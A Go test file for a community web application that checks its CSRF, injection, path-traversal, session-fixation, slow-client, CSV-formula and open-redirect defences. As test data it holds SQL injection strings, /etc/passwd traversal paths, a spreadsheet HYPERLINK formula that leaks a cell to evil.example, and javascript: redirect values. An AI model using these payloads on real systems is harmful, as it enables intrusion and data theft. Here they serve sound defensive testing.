package web_test

import (
	"bufio"
	"context"
	"fmt"
	"io"
	"log/slog"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"mingbai/internal/store"
	"mingbai/internal/store/storetest"
	"mingbai/internal/web"
	"mingbai/internal/web/site"
)

// The security tests walk the registered routes (web.Server.Routes), not a
// hand-kept list, so a route added later is covered by CSRF, injection and
// body-limit checks without anyone remembering to add it.

// tableCounts is the row count of every table of the database: a request
// that must change nothing leaves it equal, and a dropped table fails it.
func tableCounts(t *testing.T, db *store.DB) map[string]int64 {
	t.Helper()
	list := "SELECT name FROM sqlite_master WHERE type = 'table' AND name NOT LIKE 'sqlite_%' ORDER BY name"
	if db.Dialect == store.Postgres {
		list = "SELECT tablename FROM pg_tables WHERE schemaname = current_schema() ORDER BY tablename"
	}
	counts := map[string]int64{}
	err := db.Read(context.Background(), func(tx *store.Tx) error {
		rows, err := tx.Query(context.Background(), list)
		if err != nil {
			return err
		}
		var names []string
		for rows.Next() {
			var n string
			if err := rows.Scan(&n); err != nil {
				rows.Close()
				return err
			}
			names = append(names, n)
		}
		rows.Close()
		if err := rows.Err(); err != nil {
			return err
		}
		for _, n := range names {
			var c int64
			// Names come from the catalogue, not from a request.
			if err := tx.QueryRow(context.Background(), `SELECT COUNT(*) FROM "`+n+`"`).Scan(&c); err != nil {
				return fmt.Errorf("count %s: %w", n, err)
			}
			counts[n] = c
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	if len(counts) < 10 {
		t.Fatalf("only %d tables found: %v", len(counts), counts)
	}
	return counts
}

func sameCounts(t *testing.T, what string, before, after map[string]int64) {
	t.Helper()
	for n, c := range before {
		a, ok := after[n]
		switch {
		case !ok:
			t.Errorf("%s: table %s is gone", what, n)
		case a != c:
			t.Errorf("%s: table %s has %d rows, had %d", what, n, a, c)
		}
	}
}

func methodOf(pattern string) string {
	m, _, _ := strings.Cut(pattern, " ")
	return m
}

// actingRole is the role a security test uses for a route: an account the
// matrix lets through, so the request reaches the check under test rather
// than being refused by the route's policy.
func actingRole(c matrixCase) string {
	for _, r := range append(slices.Clone(accounts), "anonymous") {
		if slices.Contains(c.allowed, r) {
			return r
		}
	}
	return "anonymous"
}

// cookie returns the value of the named cookie the client holds.
func (c *client) cookie(name string) string {
	u, _ := url.Parse(c.f.srv.URL)
	for _, ck := range c.http.Jar.Cookies(u) {
		if ck.Name == name {
			return ck.Value
		}
	}
	return ""
}

// send makes a request with exactly the cookies and headers given, outside
// any jar.
func (f *fixture) send(method, path string, body io.Reader, header http.Header, cookies map[string]string) *http.Response {
	f.t.Helper()
	req, err := http.NewRequest(method, f.srv.URL+path, body)
	if err != nil {
		f.t.Fatal(err)
	}
	for k, v := range header {
		req.Header[k] = v
	}
	for k, v := range cookies {
		req.AddCookie(&http.Cookie{Name: k, Value: v})
	}
	resp, err := http.DefaultTransport.RoundTrip(req)
	if err != nil {
		f.t.Fatalf("%s %s: %v", method, path, err)
	}
	return resp
}

var formHeader = http.Header{"Content-Type": {"application/x-www-form-urlencoded"}}

// TestCSRFEveryUnsafeRoute sends every POST route, as an account allowed
// to use it and with a valid form, without the CSRF token, with a wrong
// one, without the CSRF cookie, with a cookie and token the attacker chose
// (planted, e.g. from a sibling subdomain), with another session's valid
// pair, and with a valid pair but from another site (Origin, or
// Sec-Fetch-Site without Origin): each is refused with 403 and the
// database is unchanged.
func TestCSRFEveryUnsafeRoute(t *testing.T) {
	storetest.Each(t, func(t *testing.T, db *store.DB) {
		f := newFixture(t, db)
		cases := matrix(f)
		clients := f.clientsOfEveryone()
		// Another logged-in account's cookie and token: valid, but for its
		// own session only.
		other := f.loggedIn("officerOther")
		otherPair := other.cookie("mb_csrf")
		before := tableCounts(t, db)
		unsafe := 0
		for _, pattern := range f.web.Routes() {
			if methodOf(pattern) == http.MethodGet {
				continue
			}
			unsafe++
			c, ok := cases[pattern]
			if !ok {
				t.Errorf("route %q has no matrix case", pattern)
				continue
			}
			role := actingRole(c)
			cl := clients[role]
			form := url.Values{}
			if c.form != nil {
				form = c.form(f)
			}
			form.Del("csrf")
			session := cl.cookie("mb_session")
			token := cl.cookie("mb_csrf")
			if role != "anonymous" && session == "" {
				t.Fatalf("%s has no session", role)
			}
			cookies := map[string]string{"mb_session": session, "mb_csrf": token}
			wrong := strings.Repeat("0", 32)
			with := func(token string) string {
				v := url.Values{}
				for k, vs := range form {
					v[k] = vs
				}
				v.Set("csrf", token)
				return v.Encode()
			}
			withHeader := http.Header{"Content-Type": {"application/x-www-form-urlencoded"}, "X-Csrf-Token": {wrong}}
			header := func(k, v string) http.Header {
				return http.Header{"Content-Type": {"application/x-www-form-urlencoded"}, k: {v}}
			}
			planted := strings.Repeat("a", 32)
			variants := []struct {
				name    string
				body    string
				header  http.Header
				cookies map[string]string
			}{
				{"no token", form.Encode(), formHeader, cookies},
				{"wrong token", with(wrong), formHeader, cookies},
				{"wrong header", form.Encode(), withHeader, cookies},
				// The attacker's page cannot read the cookie, so a token
				// without its cookie must not pass either.
				{"no cookie", with(token), formHeader, map[string]string{"mb_session": session}},
				// Nor a cookie and token the attacker chose and planted.
				{"planted pair", with(planted), formHeader, map[string]string{"mb_session": session, "mb_csrf": planted}},
				{"planted long pair", with(planted + planted[:16]), formHeader, map[string]string{"mb_session": session, "mb_csrf": planted + planted[:16]}},
				// A valid request sent from another site.
				{"cross origin", with(token), header("Origin", "http://evil.example"), cookies},
				{"null origin", with(token), header("Origin", "null"), cookies},
				{"null origin, cross-site", with(token), http.Header{"Content-Type": {"application/x-www-form-urlencoded"}, "Origin": {"null"}, "Sec-Fetch-Site": {"cross-site"}}, cookies},
				{"cross-site fetch", with(token), header("Sec-Fetch-Site", "cross-site"), cookies},
				{"same-site fetch", with(token), header("Sec-Fetch-Site", "same-site"), cookies},
			}
			if role != "anonymous" {
				// Tokens are bound to the session: another session's valid
				// pair does not pass with this one. (An anonymous visitor
				// has no session; its pair is bound to its pre-session
				// cookie, and the Origin checks above are its defence.)
				variants = append(variants, struct {
					name    string
					body    string
					header  http.Header
					cookies map[string]string
				}{"another session's pair", with(otherPair), formHeader, map[string]string{"mb_session": session, "mb_csrf": otherPair}})
			}
			for _, v := range variants {
				resp := f.send(http.MethodPost, c.path, strings.NewReader(v.body), v.header, v.cookies)
				b := body(t, resp)
				if resp.StatusCode != http.StatusForbidden || !strings.Contains(b, "页面已过期") {
					t.Errorf("%s as %s, %s: status %d, want 403 with the CSRF message", pattern, role, v.name, resp.StatusCode)
				}
			}
		}
		if unsafe < 40 {
			t.Fatalf("only %d unsafe routes registered", unsafe)
		}
		sameCounts(t, "after refused CSRF requests", before, tableCounts(t, db))
	})
}

// TestCSRFSameOriginAccepted: the browser's own form posts pass the
// Origin and Sec-Fetch-Site checks, and so does a client that sends
// neither but the valid token.
func TestCSRFSameOriginAccepted(t *testing.T) {
	f := newFixture(t, storetest.SQLite(t))
	for _, h := range []http.Header{
		{"Origin": {f.srv.URL}},
		{"Sec-Fetch-Site": {"same-origin"}},
		{"Sec-Fetch-Site": {"none"}},
		// A page sent with Referrer-Policy: no-referrer (the tracking
		// pages) makes Chromium post Origin: null, same-origin.
		{"Origin": {"null"}, "Sec-Fetch-Site": {"same-origin"}},
		{},
	} {
		c := f.client()
		h.Set("Content-Type", "application/x-www-form-urlencoded")
		token := c.cookie("mb_csrf")
		resp := f.send(http.MethodPost, "/login", strings.NewReader(url.Values{"csrf": {token}, "login": {"ucadrea"}, "password": {testPassword}}.Encode()),
			h, map[string]string{"mb_csrf": token})
		if body(t, resp); resp.StatusCode != http.StatusSeeOther {
			t.Errorf("login with %v: %d, want 303", h, resp.StatusCode)
		}
	}
}

// injections are strings that break naive SQL, paths or parsers.
var injections = []string{
	"' OR 1=1 --",
	"1; DROP TABLE disclosures",
	"1' UNION SELECT password_hash FROM users --",
	"%27",
	"\x00",
	"a\x00b",
	"\xff\xfe",
	"-1",
	"99999999999999999999999",
	"../../../../etc/passwd",
	strings.Repeat("长", 3000),
}

// queryInjections are the injections sent in every query parameter at
// once: the kinds of the list above, without repeats of a kind.
var queryInjections = []string{"' OR 1=1 --", "1; DROP TABLE disclosures", "\x00", "\xff\xfe", "99999999999999999999999", strings.Repeat("长", 3000)}

// queryNames are the query parameters any handler reads.
var queryNames = []string{"c", "code", "district", "done", "format", "item", "month", "next", "original", "page",
	"period", "q", "quarter", "section", "size", "table", "template", "year", "status", "kind", "category"}

// segments splits a path into its segments after the first slash.
func segments(p string) []string { return strings.Split(strings.TrimPrefix(p, "/"), "/") }

// TestInjectionEveryParameter puts hostile strings into every path
// parameter and every query parameter of every route, and into the text
// fields of a few forms: nothing answers 5xx and every table keeps its
// rows.
func TestInjectionEveryParameter(t *testing.T) {
	if testing.Short() {
		t.Skip("every parameter of every route: not in -short (scripts/test runs it)")
	}
	storetest.Each(t, func(t *testing.T, db *store.DB) {
		f := newFixture(t, db)
		cases := matrix(f)
		clients := f.clientsOfEveryone()
		before := tableCounts(t, db)
		requests := 0
		try := func(pattern, role, method, path string) {
			t.Helper()
			cl := clients[role]
			var resp *http.Response
			if method == http.MethodGet {
				resp = cl.get(path)
			} else {
				resp = cl.post(path, nil)
			}
			b := body(t, resp)
			requests++
			if resp.StatusCode >= 500 {
				t.Errorf("%s: %s %q as %s: status %d\n%.300s", pattern, method, path, role, resp.StatusCode, b)
			}
		}
		// {community}, {street} and {unit} are looked up by the middleware
		// before any handler runs, the same code for every route: one route
		// per parameter name and method is enough for them.
		unitParamDone := map[string]bool{}
		for _, pattern := range f.web.Routes() {
			c := cases[pattern]
			role := actingRole(c)
			method := methodOf(pattern)
			_, pat, _ := strings.Cut(pattern, " ")
			ps, cs := segments(pat), segments(c.path)
			for i, seg := range ps {
				if !strings.HasPrefix(seg, "{") || seg == "{$}" || i >= len(cs) {
					continue
				}
				switch seg {
				case "{community}", "{street}", "{unit}":
					if unitParamDone[seg+method] {
						continue
					}
					unitParamDone[seg+method] = true
				}
				for _, inj := range injections {
					mod := slices.Clone(cs)
					mod[i] = url.PathEscape(inj)
					try(pattern, role, method, "/"+strings.Join(mod, "/"))
				}
			}
			if method != http.MethodGet {
				continue
			}
			for _, inj := range queryInjections {
				q := url.Values{}
				for _, n := range queryNames {
					q.Set(n, inj)
				}
				sep := "?"
				if strings.Contains(c.path, "?") {
					sep = "&"
				}
				try(pattern, role, method, c.path+sep+q.Encode())
			}
		}
		// District search and the board's search, with each string alone.
		for _, inj := range injections {
			for _, p := range []string{"/search?q=", "/c/suojin-4/search?q=", "/qa/track?code="} {
				try(p, "anonymous", http.MethodGet, p+url.QueryEscape(inj))
			}
		}
		sameCounts(t, "after injected GET and path parameters", before, tableCounts(t, db))
		t.Logf("%d injected requests", requests)

		// Form fields: a question and a complaint from a visitor, and the
		// login form. Text is stored as text, or refused with 400.
		for _, inj := range injections {
			anon := clients["anonymous"]
			for _, p := range []struct {
				path string
				form url.Values
			}{
				{"/c/suojin-4/qa", url.Values{"category": {inj}, "body": {"楼道灯坏了 " + inj}, "nickname": {inj}, "contact": {inj}}},
				{"/c/suojin-4/complaints", url.Values{"category": {inj}, "body": {"工作人员不在岗 " + inj}, "name": {inj}, "contact": {inj}}},
				{"/login", url.Values{"login": {inj}, "password": {inj}}},
				{"/register", url.Values{"community": {inj}, "name": {inj}, "phone": {inj}, "building_unit": {inj}, "password": {inj}}},
			} {
				resp := anon.post(p.path, p.form)
				b := body(t, resp)
				if resp.StatusCode >= 500 {
					t.Errorf("POST %s with %q: status %d\n%.300s", p.path, inj, resp.StatusCode, b)
				}
			}
		}
		after := tableCounts(t, db)
		for n := range before {
			if _, ok := after[n]; !ok {
				t.Errorf("table %s is gone after injected forms", n)
			}
		}
		if after["users"] != before["users"] {
			t.Errorf("injected login or registration changed the users table: %d rows, had %d", after["users"], before["users"])
		}
	})
}

// rawGet sends a request line exactly as given, so the client cannot clean
// dot segments or escape anything.
func rawGet(t *testing.T, srvURL, target string) (int, string) {
	t.Helper()
	u, _ := url.Parse(srvURL)
	conn, err := net.Dial("tcp", u.Host)
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	conn.SetDeadline(time.Now().Add(10 * time.Second))
	fmt.Fprintf(conn, "GET %s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n", target, u.Host)
	resp, err := http.ReadResponse(bufio.NewReader(conn), nil)
	if err != nil {
		t.Fatalf("GET %s: %v", target, err)
	}
	b, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	return resp.StatusCode, string(b)
}

// TestPathTraversal asks the file and tile routes for files outside their
// stores. A secret planted in and next to the data directory never comes
// back, and neither does /etc/passwd.
func TestPathTraversal(t *testing.T) {
	storetest.Each(t, func(t *testing.T, db *store.DB) {
		f := newFixture(t, db)
		const secret = "SECRET-7f3a9c-MUST-NOT-LEAK"
		for _, p := range []string{filepath.Join(f.dataDir, "secret.txt"), filepath.Join(filepath.Dir(f.dataDir), "secret.txt")} {
			if err := os.WriteFile(p, []byte(secret+"\n"), 0o600); err != nil {
				t.Fatal(err)
			}
		}
		tries := []string{
			"../secret.txt", "../../secret.txt", "../../../secret.txt", "../../../../../../etc/passwd",
			"..%2fsecret.txt", "..%2f..%2fsecret.txt", "%2e%2e%2fsecret.txt", "%2e%2e%2f%2e%2e%2fsecret.txt",
			"%252e%252e%252fsecret.txt", "..\\secret.txt", "..%5c..%5csecret.txt",
			url.PathEscape(filepath.Join(f.dataDir, "secret.txt")), "%2fetc%2fpasswd", "/etc/passwd",
			"....//....//secret.txt", "%00../secret.txt",
		}
		prefixes := []string{
			"/c/suojin-4/files/", "/c/suojin-4/thumbs/",
			"/c/suojin-4/drafts/1/files/",
			"/c/suojin-4/finance/receipts/",
			"/qa/t/" + f.qaf.code + "/photos/",
			"/c/suojin-4/qa/items/" + id(f.qaf.item) + "/photos/",
			"/log/tile/0/", "/log/tile/entries/", "/log/tile/", "/log/content/", "/log/", "/static/", "/",
		}
		cadre := f.loggedIn("cadreA")
		n := 0
		for _, pre := range prefixes {
			for _, tr := range tries {
				target := pre + tr
				status, b := rawGet(t, f.srv.URL, target)
				n++
				if strings.Contains(b, "SECRET-7f3a9c") || strings.Contains(b, "root:x:0:0") {
					t.Errorf("GET %s leaked a file outside the store (status %d)", target, status)
				}
				// A redirect to the cleaned path is how the router
				// answers dot segments; anything else must be a 4xx.
				// An anonymous visitor may instead be sent to log in (303).
				if status < 300 || status >= 500 || (status < 400 && status != http.StatusMovedPermanently && status != http.StatusTemporaryRedirect && status != http.StatusPermanentRedirect && status != http.StatusSeeOther) {
					t.Errorf("GET %s: status %d, want 4xx or a redirect", target, status)
				}
				// The same through a cadre's session, who may see drafts
				// and unpublished receipts.
				resp := cadre.get(strings.ReplaceAll(target, "\\", "%5c"))
				b = body(t, resp)
				if strings.Contains(b, "SECRET-7f3a9c") || strings.Contains(b, "root:x:0:0") {
					t.Errorf("GET %s as cadreA leaked a file outside the store", target)
				}
				if resp.StatusCode == http.StatusOK && !strings.HasPrefix(pre, "/log/") && pre != "/" {
					t.Errorf("GET %s as cadreA: 200", target)
				}
			}
		}
		// Tile paths that are too long, too deep or not canonical.
		for _, p := range []string{
			"/log/tile/0/" + strings.Repeat("x999/", 30) + "999",
			"/log/tile/0/99999999999999999999999",
			"/log/tile/0/x001/x002/x003/x004/x005/x006/x007/000",
			"/log/tile/99/000", "/log/tile/-1/000", "/log/tile/0/000.p/0", "/log/tile/0/000.p/999999999999",
			"/log/tile/entries/" + strings.Repeat("x001/", 10) + "000",
			"/log/tile/0/x-01/000", "/log/tile/0/+01", "/log/content/99999999999999999999",
			"/log/leaves/99999999999999999999", "/log/proof/-1", "/log/consistency/5/1",
		} {
			status, b := rawGet(t, f.srv.URL, p)
			n++
			if status < 400 || status >= 500 {
				t.Errorf("GET %s: status %d, want 4xx\n%.200s", p, status, b)
			}
		}
		t.Logf("%d traversal requests", n)
	})
}

// repeatReader is n bytes of one letter, without holding them in memory.
type repeatReader struct{ n int64 }

func (r *repeatReader) Read(p []byte) (int, error) {
	if r.n <= 0 {
		return 0, io.EOF
	}
	k := min(int64(len(p)), r.n)
	for i := range p[:k] {
		p[i] = 'a'
	}
	r.n -= k
	return int(k), nil
}

// TestOversizedBodies sends every POST route a body one byte over its
// limit, as a form and, for upload routes, as a multipart file: each is
// refused with 413 and a Chinese message, and nothing is stored.
func TestOversizedBodies(t *testing.T) {
	storetest.Each(t, func(t *testing.T, db *store.DB) {
		f := newFixture(t, db)
		cases := matrix(f)
		clients := f.clientsOfEveryone()
		before := tableCounts(t, db)
		for _, pattern := range f.web.Routes() {
			if methodOf(pattern) == http.MethodGet {
				continue
			}
			limit := f.web.BodyLimit(pattern)
			if limit <= 0 {
				t.Fatalf("%s has no body limit", pattern)
			}
			c := cases[pattern]
			role := actingRole(c)
			cl := clients[role]
			cookies := map[string]string{"mb_session": cl.cookie("mb_session"), "mb_csrf": cl.cookie("mb_csrf")}
			prefix := "csrf=" + cl.cookie("mb_csrf") + "&body="
			bodies := []struct {
				name   string
				header http.Header
				r      io.Reader
			}{{"form", formHeader, io.MultiReader(strings.NewReader(prefix), &repeatReader{limit + 1 - int64(len(prefix))})}}
			// Upload routes get the multipart body they expect instead:
			// tens of megabytes twice would only slow the test.
			if limit > 1<<20 {
				bodies = bodies[:0]
				const boundary = "securitytestboundary"
				head := "--" + boundary + "\r\nContent-Disposition: form-data; name=\"csrf\"\r\n\r\n" + cl.cookie("mb_csrf") + "\r\n" +
					"--" + boundary + "\r\nContent-Disposition: form-data; name=\"file\"; filename=\"big.jpg\"\r\nContent-Type: image/jpeg\r\n\r\n"
				tail := "\r\n--" + boundary + "--\r\n"
				bodies = append(bodies, struct {
					name   string
					header http.Header
					r      io.Reader
				}{"upload", http.Header{"Content-Type": {"multipart/form-data; boundary=" + boundary}},
					io.MultiReader(strings.NewReader(head), &repeatReader{limit}, strings.NewReader(tail))})
			}
			for _, b := range bodies {
				resp := f.send(http.MethodPost, c.path, b.r, b.header, cookies)
				text := body(t, resp)
				if resp.StatusCode != http.StatusRequestEntityTooLarge || !strings.Contains(text, "提交的内容太大") {
					t.Errorf("%s as %s, %s of %d bytes: status %d, want 413 with a Chinese message", pattern, role, b.name, limit+1, resp.StatusCode)
				}
			}
		}
		sameCounts(t, "after oversized bodies", before, tableCounts(t, db))
	})
}

// TestSessionFixation plants session tokens before login and checks that
// login, logout and another account's token give an attacker nothing, and
// that the cookies carry the flags that keep scripts and other sites out.
func TestSessionFixation(t *testing.T) {
	storetest.Each(t, func(t *testing.T, db *store.DB) {
		f := newFixture(t, db)
		u, _ := url.Parse(f.srv.URL)
		plant := func(c *client, name, value string) {
			c.http.Jar.SetCookies(u, []*http.Cookie{{Name: name, Value: value, Path: "/"}})
		}
		canSeeInbox := func(token string) bool {
			resp := f.send(http.MethodGet, "/c/suojin-4/qa/inbox", nil, nil, map[string]string{"mb_session": token})
			body(t, resp)
			return resp.StatusCode == http.StatusOK
		}
		login := func(c *client, name string) *http.Response {
			// As a browser does, load the form first: the CSRF cookie
			// counts only with the session the browser holds, planted or
			// not, and loading a page hands out one that matches.
			body(t, c.get("/login"))
			resp := c.post("/login", url.Values{"login": {"u" + strings.ToLower(name)}, "password": {testPassword}})
			body(t, resp)
			if resp.StatusCode != http.StatusSeeOther {
				t.Fatalf("login %s: %d", name, resp.StatusCode)
			}
			return resp
		}

		// An attacker-chosen token is replaced at login and stays worthless.
		victim := f.client()
		const chosen = "attacker-chosen-session-token-0123456789"
		plant(victim, "mb_session", chosen)
		csrfBefore := victim.cookie("mb_csrf")
		resp := login(victim, "cadreA")
		got := victim.cookie("mb_session")
		if got == "" || got == chosen {
			t.Fatalf("session after login is %q, the planted token was %q", got, chosen)
		}
		if canSeeInbox(chosen) {
			t.Error("the planted token acts as the cadre after login")
		}
		if !canSeeInbox(got) {
			t.Fatal("the new session cannot see the cadre's inbox")
		}
		if victim.cookie("mb_csrf") == csrfBefore {
			t.Error("the CSRF token did not change at login")
		}
		// A form carrying the token the attacker saw before login is refused.
		r := f.send(http.MethodPost, "/c/suojin-4/qa/templates", strings.NewReader(url.Values{"csrf": {csrfBefore}, "title": {"x"}, "body": {"y"}}.Encode()),
			formHeader, map[string]string{"mb_session": got, "mb_csrf": victim.cookie("mb_csrf")})
		if body(t, r); r.StatusCode != http.StatusForbidden {
			t.Errorf("POST with the pre-login CSRF token: %d, want 403", r.StatusCode)
		}

		// Cookies: HttpOnly and SameSite=Lax; not Secure on plain http.
		for _, ck := range resp.Cookies() {
			if ck.Name != "mb_session" && ck.Name != "mb_csrf" {
				continue
			}
			if !ck.HttpOnly || ck.SameSite != http.SameSiteLaxMode {
				t.Errorf("cookie %s: HttpOnly %v SameSite %v", ck.Name, ck.HttpOnly, ck.SameSite)
			}
		}

		// The attacker's own valid session planted into the victim's
		// browser: after the victim logs in the victim has a new token, and
		// the attacker's token never becomes the cadre.
		attacker := f.loggedIn("resident")
		attackerToken := attacker.cookie("mb_session")
		victim2 := f.client()
		plant(victim2, "mb_session", attackerToken)
		login(victim2, "cadreA")
		if victim2.cookie("mb_session") == attackerToken {
			t.Fatal("login kept the planted session token")
		}
		if canSeeInbox(attackerToken) {
			t.Error("the attacker's planted token acts as the cadre")
		}
		// Login ended the session that came with it.
		r = f.send(http.MethodGet, "/account", nil, nil, map[string]string{"mb_session": attackerToken})
		if body(t, r); r.StatusCode != http.StatusSeeOther {
			t.Errorf("the session presented at login still works: %d", r.StatusCode)
		}

		// Logout ends the session for good.
		token := victim.cookie("mb_session")
		r = victim.post("/logout", nil)
		body(t, r)
		if canSeeInbox(token) {
			t.Error("the token still works after logout")
		}
		r = f.send(http.MethodGet, "/account", nil, nil, map[string]string{"mb_session": token})
		if body(t, r); r.StatusCode != http.StatusSeeOther || !strings.HasPrefix(r.Header.Get("Location"), "/login") {
			t.Errorf("GET /account with a logged-out token: %d %s", r.StatusCode, r.Header.Get("Location"))
		}

		// One account's token cannot act as another.
		resident := f.loggedIn("resident")
		if canSeeInbox(resident.cookie("mb_session")) {
			t.Error("a resident's token sees the cadre's inbox")
		}
		r = resident.post("/admin/users/"+id(f.users["cadreA"])+"/password", url.Values{"password": {"new-pass-123456"}})
		if body(t, r); r.StatusCode != http.StatusForbidden {
			t.Errorf("a resident resetting a cadre's password: %d, want 403", r.StatusCode)
		}

		// Behind a TLS-terminating proxy the cookies are Secure.
		proxied, err := site.New(site.Config{
			Config: web.Config{DB: db, Org: f.org, Auth: f.auth, Logger: slog.New(slog.NewTextHandler(io.Discard, nil)), TrustProxy: true},
			QA:     f.qa, Finance: f.fin.svc, Log: f.log, Disclosure: f.disc,
		})
		if err != nil {
			t.Fatal(err)
		}
		ps := httptest.NewServer(proxied.Handler())
		defer ps.Close()
		req, _ := http.NewRequest(http.MethodGet, ps.URL+"/login", nil)
		req.Header.Set("X-Forwarded-Proto", "https")
		pr, err := http.DefaultTransport.RoundTrip(req)
		if err != nil {
			t.Fatal(err)
		}
		pr.Body.Close()
		secure := false
		for _, ck := range pr.Cookies() {
			if ck.Name == "__Host-mb_csrf" {
				secure = ck.Secure && ck.HttpOnly && ck.SameSite == http.SameSiteLaxMode && ck.Path == "/" && ck.Domain == ""
			}
		}
		if !secure {
			t.Errorf("behind https the CSRF cookie is not __Host-, Secure, HttpOnly, SameSite=Lax, Path=/: %v", pr.Header["Set-Cookie"])
		}
	})
}

// TestSlowClients runs the server as `mingbai serve` configures it, with
// its timeouts shortened so the test is quick: a client dribbling its
// headers (slowloris) or its body is cut off, and other clients are
// answered meanwhile.
func TestSlowClients(t *testing.T) {
	f := newFixture(t, storetest.SQLite(t))
	hs := f.web.HTTPServer("127.0.0.1:0")
	// The production values: every timeout set, headers bounded.
	if hs.ReadHeaderTimeout <= 0 || hs.ReadHeaderTimeout > 10*time.Second || hs.ReadTimeout <= 0 || hs.WriteTimeout <= 0 ||
		hs.IdleTimeout <= 0 || hs.MaxHeaderBytes <= 0 || hs.MaxHeaderBytes > 1<<20 {
		t.Fatalf("serve's http.Server lacks a bound: header %v read %v write %v idle %v max header %d",
			hs.ReadHeaderTimeout, hs.ReadTimeout, hs.WriteTimeout, hs.IdleTimeout, hs.MaxHeaderBytes)
	}
	hs.ReadHeaderTimeout = 300 * time.Millisecond
	hs.ReadTimeout = 800 * time.Millisecond
	hs.WriteTimeout = 2 * time.Second
	hs.IdleTimeout = time.Second
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	go hs.Serve(web.BatchWrites(ln))
	t.Cleanup(func() { hs.Close() })
	addr := ln.Addr().String()

	// dribble writes prefix, then one byte of rest every 50 ms, and
	// reports how long the server kept the connection open.
	dribble := func(prefix, rest string) <-chan time.Duration {
		done := make(chan time.Duration, 1)
		go func() {
			start := time.Now()
			conn, err := net.Dial("tcp", addr)
			if err != nil {
				done <- 0
				return
			}
			defer conn.Close()
			closed := make(chan struct{})
			go func() { io.Copy(io.Discard, conn); close(closed) }()
			conn.Write([]byte(prefix))
			for i := 0; i < len(rest); i++ {
				select {
				case <-closed:
					done <- time.Since(start)
					return
				case <-time.After(50 * time.Millisecond):
				}
				if _, err := conn.Write([]byte{rest[i]}); err != nil {
					<-closed
					done <- time.Since(start)
					return
				}
			}
			<-closed
			done <- time.Since(start)
		}()
		return done
	}
	longHeader := "X-Slow: " + strings.Repeat("a", 200) + "\r\n\r\n"
	var slow []<-chan time.Duration
	for range 20 {
		slow = append(slow, dribble("GET /healthz HTTP/1.1\r\nHost: x\r\n", longHeader))
	}
	body := "size=large&padding=" + strings.Repeat("b", 300)
	slowBody := dribble(fmt.Sprintf("POST /prefs/text HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: %d\r\n\r\n", len(body)), body)

	// Others are served while twenty slow clients hold connections.
	time.Sleep(100 * time.Millisecond)
	for range 5 {
		start := time.Now()
		resp, err := http.Get("http://" + addr + "/healthz")
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		if resp.StatusCode != http.StatusOK || time.Since(start) > time.Second {
			t.Errorf("healthz during slow clients: %d after %v", resp.StatusCode, time.Since(start))
		}
	}
	// The whole slow header would take 10 s; the server cuts it after
	// ReadHeaderTimeout.
	for i, c := range slow {
		if d := <-c; d == 0 || d > 2*time.Second {
			t.Errorf("slow header client %d held its connection %v", i, d)
		}
	}
	if d := <-slowBody; d == 0 || d > 3*time.Second {
		t.Errorf("slow body client held its connection %v", d)
	}
	// Oversized headers are refused outright.
	conn, err := net.Dial("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	fmt.Fprintf(conn, "GET /healthz HTTP/1.1\r\nHost: x\r\nX-Big: %s\r\n\r\n", strings.Repeat("c", hs.MaxHeaderBytes+8192))
	resp, err := http.ReadResponse(bufio.NewReader(conn), nil)
	if err == nil {
		resp.Body.Close()
		if resp.StatusCode != http.StatusRequestHeaderFieldsTooLarge {
			t.Errorf("oversized header: %d, want 431", resp.StatusCode)
		}
	}
}

// TestCSVFormulaInjection: a visitor's question that starts with = or @
// reaches the public CSV download as text, not as a spreadsheet formula.
func TestCSVFormulaInjection(t *testing.T) {
	f := newFixture(t, storetest.SQLite(t))
	anon := f.client()
	const question = `=HYPERLINK("http://evil.example/?"&A1,"点此查看")`
	resp := anon.post("/c/suojin-4/qa", url.Values{"category": {"设施维修"}, "body": {question}, "nickname": {"@SUM(1+1)"}})
	if b := body(t, resp); resp.StatusCode != http.StatusSeeOther && resp.StatusCode != http.StatusOK {
		t.Fatalf("submit: %d\n%.300s", resp.StatusCode, b)
	}
	csv := body(t, anon.get("/c/suojin-4/qa/export.csv"))
	if !strings.Contains(csv, `"'=HYPERLINK(`) {
		t.Errorf("the question is not neutralised in the CSV:\n%s", csv)
	}
	if strings.Contains(csv, `,"=HYPERLINK(`) || strings.Contains(csv, ",=HYPERLINK(") {
		t.Errorf("a cell of the CSV starts with a formula:\n%s", csv)
	}
	// Plain numbers, negative ones too, are left as numbers.
	if !strings.Contains(csv, ",0,") {
		t.Errorf("numbers changed:\n%s", csv)
	}
}

// TestLoginRedirectStaysLocal: the next field of the login form cannot
// send a freshly logged-in account to another site or run a script.
func TestLoginRedirectStaysLocal(t *testing.T) {
	f := newFixture(t, storetest.SQLite(t))
	for _, next := range []string{"//evil.example/", "/\\evil.example/", "/\t/evil.example/", "https://evil.example/",
		"javascript:alert(1)", "/%0a/evil.example", " //evil.example", "\\\\evil.example"} {
		c := f.client()
		resp := c.post("/login", url.Values{"login": {"ucadrea"}, "password": {testPassword}, "next": {next}})
		body(t, resp)
		loc := resp.Header.Get("Location")
		u, err := url.Parse(loc)
		if resp.StatusCode != http.StatusSeeOther || err != nil || u.Host != "" || u.Scheme != "" || !strings.HasPrefix(loc, "/") ||
			strings.HasPrefix(loc, "//") || strings.ContainsAny(loc, "\\\t\r\n") {
			t.Errorf("login with next=%q: %d to %q", next, resp.StatusCode, loc)
		}
	}
}

// clientsOfEveryone logs in one client for each role of the matrix.
func (f *fixture) clientsOfEveryone() map[string]*client {
	clients := map[string]*client{}
	for _, r := range everyone {
		clients[r] = f.loggedIn(r)
	}
	return clients
}
